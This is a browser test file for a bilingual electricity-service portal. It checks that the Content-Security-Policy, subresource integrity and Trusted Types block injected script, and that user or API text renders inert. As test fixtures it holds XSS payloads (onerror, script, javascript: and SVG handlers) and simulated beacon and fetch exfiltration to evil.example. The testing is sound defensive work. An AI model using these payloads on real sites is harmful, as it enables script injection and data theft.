// Issue 10 (security): the portal is served with a strict Content-Security-Policy generated for
// this build, every route runs under it without a single violation, and script/HTML typed into
// any free-text field or sent by the API in announcements is shown as inert text.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { startServer, launch, newPage, ready, fileViaApi, applyViaApi, copyDist, dataWithAnnouncements } from './harness.js';

const root = resolve(import.meta.dirname, '../..');
const PAYLOAD = `"><img src=x onerror="window.__xss=1"><script>window.__xss=2</script>`;
let server, browser, complaint, application;

before(async () => {
  // Announcements from the API carry payloads too.
  const data = dataWithAnnouncements((anns) => {
    anns[0].title = { en: `Notice ${PAYLOAD}`, hi: `सूचना ${PAYLOAD}` };
    anns[0].body = { en: `<b>bold?</b> ${PAYLOAD}`, hi: `<b>bold?</b> ${PAYLOAD}` };
    // And the outage a "no supply" complaint is told of, made current.
    Object.assign(anns.find((a) => a.id === 'a2'), { from: '2026-01-01T00:00:00Z', until: '2100-01-01T00:00:00Z', title: { en: `Cut ${PAYLOAD}`, hi: `कटौती ${PAYLOAD}` } });
  });
  server = await startServer(['--data-dir', data]);
  browser = await launch();
  complaint = await fileViaApi(server, '9833300001', { name: `Ram ${PAYLOAD}`, description: `No light ${PAYLOAD}`, address: `Lane ${PAYLOAD}`, landmark: PAYLOAD });
  application = await applyViaApi(server, '9833300002');
});
after(async () => { await browser?.close(); await server?.stop(); });

/** A page that records every CSP violation the browser reports. */
async function watched() {
  const page = await newPage(browser);
  page.violations = [];
  await page.addInitScript(() => {
    window.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__csp.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  page.on('console', (m) => { if (/Content Security Policy/i.test(m.text())) page.violations.push(m.text()); });
  return page;
}

async function violations(page) {
  return [...page.violations, ...await page.evaluate(() => window.__csp || [])];
}

test('the build\'s CSP and the security headers are sent', async () => {
  const policy = readFileSync(join(root, 'dist/csp.txt'), 'utf8').trim();
  for (const path of ['/', '/complaint/new', `/track/${complaint}`]) {
    const r = await fetch(`${server.base}${path}`);
    const h = r.headers;
    assert.equal(h.get('content-security-policy'), policy, path);
    assert.match(policy, /script-src 'self'( 'sha256-[A-Za-z0-9+/=]+')+ 'wasm-unsafe-eval'/);
    // The inlined stylesheet is allowed by its hash only (no style attributes, no other inline CSS).
    assert.match(policy, /style-src 'self' 'sha256-[A-Za-z0-9+/=]+';/);
    assert.ok(!policy.includes('unsafe-inline'));
    for (const d of ["object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'", "default-src 'self'", "connect-src 'self'", "require-trusted-types-for 'script'", 'trusted-types default', 'report-uri /api/v1/csp-reports']) assert.ok(policy.includes(d), d);
    assert.equal(h.get('x-content-type-options'), 'nosniff');
    assert.equal(h.get('referrer-policy'), 'no-referrer');
    assert.match(h.get('strict-transport-security'), /max-age=\d+/);
    assert.match(h.get('permissions-policy'), /geolocation=\(self\)/);
  }
  // Subresource integrity stays on: the scripts' preloads and the main wasm's fetch, both started
  // after the first paint by tools/first-paint.py, carry their hashes.
  const html = await (await fetch(`${server.base}/`)).text();
  assert.match(html, /\["\/bijli-seva-[0-9a-f]+\.js","sha384-[A-Za-z0-9+/=]+"\]/);
  assert.match(html, /k\.integrity=s\[1\]/);
  assert.match(html, /fetch\("\/bijli-seva-[0-9a-f]+_bg\.wasm",\{integrity:"sha384-[A-Za-z0-9+/=]+"\}\)/);
});

test('a script altered on the way is refused (SRI), and the helpline stays on screen', async () => {
  // A copy of the build whose glue script no longer matches the hash index.html carries for it,
  // as a tampering proxy or a half-updated CDN would serve it.
  const dist = copyDist();
  const glue = readdirSync(dist).find((f) => /^bijli-seva-[0-9a-f]+\.js$/.test(f));
  writeFileSync(join(dist, glue), readFileSync(join(dist, glue), 'utf8') + '\nwindow.__tampered = 1;\n');
  for (const f of [`${glue}.br`, `${glue}.gz`]) rmSync(join(dist, f), { force: true });
  const tampered = await startServer([], { dist });
  try {
    const page = await newPage(browser);
    const refused = [];
    page.on('console', (m) => { if (/integrity/i.test(m.text())) refused.push(m.text()); });
    await page.goto(`${tampered.base}/`);
    await page.waitForTimeout(1500);
    assert.ok(refused.some((t) => t.includes(glue)), `the altered ${glue} is blocked: ${refused}`);
    assert.equal(await page.evaluate(() => window.__tampered), undefined, 'its code never ran');
    // The static shell is still there: what the portal is for and the 1912 helpline, and it says
    // the portal could not load instead of "Loading…" for ever.
    assert.equal(await page.locator('#boot a[href="tel:1912"]').count(), 1);
    assert.ok(await page.locator('#boot-failed').isVisible(), 'the failure is said');
    await page.close();
  } finally {
    await tampered.stop();
  }
});

test('every route runs under the enforced CSP without a violation, in both languages', async () => {
  const page = await watched();
  const routes = ['/', '/complaint/new', '/complaint/new/problem', '/complaint/new/details', '/complaint/new/contact', '/complaint/new/check',
    '/connection/new', '/connection/new/applicant', '/connection/new/premises', '/connection/new/load', '/connection/new/documents',
    '/connection/new/dates', '/connection/new/fees', '/connection/new/check', `/connection/done/${application}`, '/track',
    `/track/${complaint}`, `/track/${application}`, '/tickets', '/find', '/drafts', '/announcements', '/settings', '/privacy', '/accessibility', '/no-such-page'];
  for (const lang of ['hi', 'en']) {
    await page.goto(`${server.base}/`);
    await ready(page);
    if (lang === 'en') await page.getByRole('button', { name: 'English' }).click();
    for (const route of routes) {
      await page.goto(`${server.base}${route}`);
      await ready(page);
      await page.waitForTimeout(100);
    }
  }
  assert.deepEqual(await violations(page), []);
  assert.deepEqual(page.errors, []);
  assert.ok(!server.logs().includes('"csp_violation"'), 'the backend was sent no violation report');
});

test('what an injected script would do is blocked and reported to the backend, without the page\'s query string', async () => {
  const page = await watched();
  await page.goto(`${server.base}/track/${complaint}?lang=en#timeline`);
  await ready(page);
  // What an extension, a hostile network or an XSS would try: run inline code, and send what it
  // read to another origin (an image beacon, a fetch).
  const tried = await page.evaluate(async () => {
    const inline = document.createElement('script');
    let script = 'allowed';
    try { inline.textContent = 'window.__injected = 1'; document.body.append(inline); } catch (e) { script = e.name; }
    const img = document.createElement('img');
    img.src = 'https://evil.example/beacon.gif?mobile=9833300001';
    document.body.append(img);
    let sent = 'sent';
    await fetch('https://evil.example/collect?session=abc', { method: 'POST', body: 'x' }).catch(() => { sent = 'refused'; });
    return { script, sent, ran: window.__injected };
  });
  assert.deepEqual(tried, { script: 'TypeError', sent: 'refused', ran: undefined });
  // Reports from this page (the browser sends them on its own schedule, so wait for all three kinds).
  const reported = () => server.logs().split('\n').filter((l) => l.includes('"csp_violation"')).map((l) => JSON.parse(l))
    .filter((r) => r.page === `${server.base}/track/${complaint}`);
  const kinds = () => [...new Set(reported().map((r) => `${r.directive} ${r.blocked}`))].sort();
  for (let i = 0; i < 200 && kinds().length < 3; i++) await page.waitForTimeout(100);
  const got = reported();
  assert.deepEqual(kinds(), ['connect-src https://evil.example', 'img-src https://evil.example', 'require-trusted-types-for trusted-types-sink'],
    server.logs().split('\n').filter((l) => l.includes('"csp_violation"')).join('\n'));
  for (const r of got) assert.equal(r.disposition, 'enforce');
  // (The dev server prints its SMS outbox, mobiles included, to the same log: only the reports are read.)
  const lines = JSON.stringify(got);
  assert.ok(!lines.includes('session=abc') && !lines.includes('lang=en') && !lines.includes('9833300001'), 'no query string is logged');
  assert.ok(!server.logs().includes('session=abc'));
});

test('Trusted Types: markup that could run script is refused by every HTML sink and reported; plain markup still works; no other policy can be made', async () => {
  const page = await watched();
  await page.goto(`${server.base}/track/${complaint}`);
  await ready(page);
  const before = server.logs().split('\n').filter((l) => l.includes('"require-trusted-types-for"')).length;
  const outcome = await page.evaluate(() => {
    const box = document.createElement('div');
    document.body.append(box);
    const attempt = (f) => { try { f(); return 'allowed'; } catch (e) { return e.name; } };
    return {
      plain: attempt(() => { box.innerHTML = '<b>bold</b> <a href="/track">track</a>'; }) + ' ' + box.querySelectorAll('b, a').length,
      handler: attempt(() => { box.innerHTML = '<img src=x onerror="window.__tt=1">'; }),
      script: attempt(() => { box.insertAdjacentHTML('beforeend', '<script>window.__tt=2</' + 'script>'); }),
      link: attempt(() => { box.innerHTML = '<a href=" javascript:window.__tt=3">x</a>'; }),
      svg: attempt(() => { box.innerHTML = '<svg><animate onbegin="window.__tt=4"/></svg>'; }),
      worker: attempt(() => new Worker('https://evil.example/w.js')),
      policy: attempt(() => trustedTypes.createPolicy('mine', { createHTML: (x) => x })),
      ran: window.__tt,
    };
  });
  assert.deepEqual(outcome, {
    plain: 'allowed 2', handler: 'TypeError', script: 'TypeError', link: 'TypeError', svg: 'TypeError',
    worker: 'TypeError', policy: 'TypeError', ran: undefined,
  });
  const reported = () => server.logs().split('\n').filter((l) => l.includes('"require-trusted-types-for"')).length - before;
  for (let i = 0; i < 50 && reported() < 5; i++) await page.waitForTimeout(100);
  assert.ok(reported() >= 5, `the refusals were reported to the backend (${reported()})`);
});

test('script and HTML in free text — typed or from the API — render as inert text', async () => {
  const page = await watched();
  // From the API: a complaint's own fields on its status page, and announcements.
  await page.goto(`${server.base}/track/${complaint}`);
  await ready(page);
  await page.waitForSelector('.timeline, .status-summary, h1');
  await page.goto(`${server.base}/announcements`);
  await ready(page);
  // Both lists: the cut on now (its title carries the payload) heads the page, the rest below.
  await page.waitForSelector('ul[aria-labelledby=cuts-title] .news-item');
  await page.waitForSelector('ul[aria-labelledby=others-title] .news-item');
  const news = (await page.locator('.news-list').allTextContents()).join('\n');
  assert.ok(news.includes('<img src=x onerror="window.__xss=1">'), 'shown as text');
  assert.ok(news.includes('<b>bold?</b>'));
  assert.match(await page.textContent('ul[aria-labelledby=cuts-title]'), /कटौती "><img src=x onerror=/);
  assert.equal(await page.locator('.news-list img, .news-list script, .news-list b').count(), 0);
  // Typed: every free-text field of the complaint and the application, shown back on their check pages.
  await page.goto(`${server.base}/complaint/new`);
  await ready(page);
  await page.check('input[name=account_choice][value=area]');
  await page.fill('#f-address', `Lane ${PAYLOAD}`);
  await page.fill('#f-landmark', PAYLOAD);
  await page.selectOption('#f-district', 'VNS');
  await page.getByRole('button', { name: 'जारी रखें' }).click();
  await page.waitForURL(/problem/);
  await page.check('input[name=category][value=no_supply]');
  await page.waitForSelector('#known-outage');
  assert.ok((await page.textContent('#known-outage')).includes(`कटौती ${PAYLOAD}`), 'the outage notice shows it as text');
  assert.equal(await page.locator('#known-outage img, #known-outage script').count(), 0);
  await page.goto(`${server.base}/connection/new?new=1`);
  await ready(page);
  await page.locator('#task-applicant').click();
  for (const f of ['#f-name', '#f-father_name', '#f-email']) await page.fill(f, PAYLOAD);
  await page.getByRole('button', { name: 'सहेजें और आगे बढ़ें' }).click();
  await page.waitForSelector('.error-summary');
  await page.goto(`${server.base}/drafts`);
  await ready(page);
  assert.ok((await page.textContent('main')).includes(PAYLOAD.slice(0, 20)), 'the draft label shows the payload as text');
  assert.equal(await page.locator('main img, main script').count(), 0);
  assert.equal(await page.evaluate(() => window.__xss), undefined, 'no payload ran');
  assert.deepEqual(await violations(page), [], 'and none was even attempted against the CSP');
  assert.deepEqual(page.errors, []);
});
